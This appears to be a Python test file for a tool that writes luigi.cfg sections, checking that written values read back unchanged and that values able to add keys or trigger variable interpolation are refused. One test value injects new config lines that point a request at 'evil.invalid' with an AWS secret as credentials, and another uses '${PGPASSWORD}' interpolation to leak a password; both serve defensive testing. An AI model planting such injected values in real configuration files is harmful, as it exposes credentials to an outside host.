"""Written sections of luigi.cfg read back with the same values."""

import json
from configparser import InterpolationError
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from luigi.configuration.cfg_parser import LuigiConfigParser

from tests.support.project import run_here
from tests.support.server import Answer, Request, Server
from wholeday.config.writer import escape_json, write_section, write_value

NAMES = st.text(st.sampled_from("ab \n\r\t$({})%[];#=:\"\\'${PATH}%(url)s") | st.characters(), max_size=20)
EVIL = "users\nmethod = POST\nurl = http://evil.invalid/collect\nauth = bearer:AWS_SECRET_ACCESS_KEY"
VARIABLE = "${PGPASSWORD}"


def read(section: str) -> dict[str, str]:
    """Return the keys as Luigi reads them, with variables replaced."""
    parser = LuigiConfigParser()
    parser.read_string(section)
    assert parser.sections() == ["users"]
    return dict(parser["users"])


@pytest.mark.slow
@settings(suppress_health_check=[HealthCheck.filter_too_much])  # much of the text cannot be written
@given(st.dictionaries(st.sampled_from(["url", "cursor_path", "data_selector"]), NAMES))
def test_written_section_reads_back(values: dict[str, str]) -> None:
    try:
        section = write_section("users", values)
    except ValueError:
        assume(False)
    assert read(section) == values


@given(st.dictionaries(NAMES, NAMES))
def test_written_json_reads_back(value: dict[str, str]) -> None:
    """With any names and texts."""
    section = write_section("users", {"params": escape_json(json.dumps(value))})
    assert json.loads(read(section)["params"]) == value


@pytest.mark.parametrize(
    "text", ["", "a", "data.items", "%Y-%m-%d", "%(url)s", "[x]", "# no comment", "; a = b: c", "a$b"]
)
def test_usual_text_can_be_written(text: str) -> None:
    assert read(f"[users]\nkey = {write_value(text)}") == {"key": text}


@pytest.mark.parametrize(
    "text", [EVIL, VARIABLE, "a${", "a\rb", "a\x1b[2J", "\u202ea", " a", "a ", "a\u2028b", "\ud800"]
)
def test_text_with_another_meaning_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"line break|environment variable|space"):
        write_value(text)


def test_parser_replaces_what_is_refused() -> None:
    """The refusals are needed: Luigi's parser replaces variables."""
    with pytest.raises(InterpolationError):
        read("[users]\nkey = ${NO_SUCH_VARIABLE}")


def lead_on(request: Request) -> Answer:
    """Serve a cursor under the name of a variable."""
    second = "p2" in request.query.values()
    users = [{"id": number} for number in (range(6, 9) if second else range(1, 6))]
    return Answer({"data": users, "next": {VARIABLE: None if second else "p2"}, "has_more": not second})


def filter_users(request: Request) -> Answer:
    """Serve a filter by a field that is named after a variable."""
    future = any(name.endswith("}_gte") and text > "2050" for name, text in request.query.items())
    users = [{"id": n, "name": f"n{n}", f"updated_{VARIABLE}": f"2026-11-20T10:0{n}:00Z"} for n in (1, 2, 3)]
    return Answer([] if future else users)


def ask_doctor(answer: Any, capsys: pytest.CaptureFixture[str]) -> tuple[str, dict[str, str]]:
    """Return the output of doctor for a source, and the section in it as Luigi reads it."""
    with Server() as server:
        out, err, _ = run_here(capsys, "doctor", server.on("/users", answer))
    assert not err
    return out, read(out[out.index("[users]\n") :])


@pytest.mark.usefixtures("configure")  # restores the keys that doctor removes from luigi.cfg
@pytest.mark.parametrize(
    ("answer", "left_out"),
    [(Answer({EVIL: [{"id": 1, "name": "a"}]}), "data_selector"), (lead_on, "cursor_path")],
    ids=["line break", "variable"],
)
def test_doctor_leaves_out_what_luigi_cfg_cannot_hold(
    answer: Any, left_out: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """It says which key is missing, and no name of the source becomes a key."""
    out, section = ask_doctor(answer, capsys)
    assert f"luigi.cfg cannot hold {left_out} = " in out
    assert section.keys() <= {"url", "mode", "data_selector", "paginator", "cursor_param", "more_path"} - {left_out}
    assert section["url"].startswith("http://127.0.0.1:")


@pytest.mark.usefixtures("configure")
def test_doctor_writes_no_variable_of_the_source(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name of the source in params is sent unchanged. It once carried the variable to the source."""
    monkeypatch.setenv("PGPASSWORD", "hunter2secret")
    _, section = ask_doctor(filter_users, capsys)
    assert "hunter2" not in str(section)
    assert f"updated_{VARIABLE}_gte" in json.loads(section["params"])
